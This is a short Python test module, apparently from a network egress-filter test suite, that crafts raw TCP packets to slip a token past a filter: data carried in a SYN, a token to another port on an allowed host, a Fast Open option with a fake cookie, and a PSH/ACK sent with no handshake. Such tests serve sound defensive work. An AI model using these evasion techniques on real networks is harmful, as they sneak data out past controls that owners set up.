# SPDX-License-Identifier: Apache-2.0
"""Data in the SYN, with raw packets."""
import packet
from bypass import get

TITLE = "data in the SYN (raw)"
THREAT = "47"


def attack(c):
    with c.step("to a denied address") as token:
        link = packet.Link(c.family)
        t = packet.RawTcp(link, c.e, 80)
        t.segment(packet.SYN, get("ok.test", f"/{token}"))
        link.close()
    with c.step("to the allowed address, another port") as token:
        link = packet.Link(c.family)
        t = packet.RawTcp(link, c.lookup("ok.test"), 7)
        t.segment(packet.SYN, token.encode())
        link.close()
    with c.step("a Fast Open option") as token:
        link = packet.Link(c.family)
        t = packet.RawTcp(link, c.lookup("ok.test"), 80)
        t.segment(packet.SYN, get(f"sib-{token}.test", "/"), options=b"\x22\x0a" + b"cookie!!" + b"\1\1")
        link.close()
    with c.step("no SYN at all") as token:
        link = packet.Link(c.family)
        t = packet.RawTcp(link, c.e, 80)
        t.segment(packet.PSH | packet.ACK, get("ok.test", f"/{token}"))
        link.close()
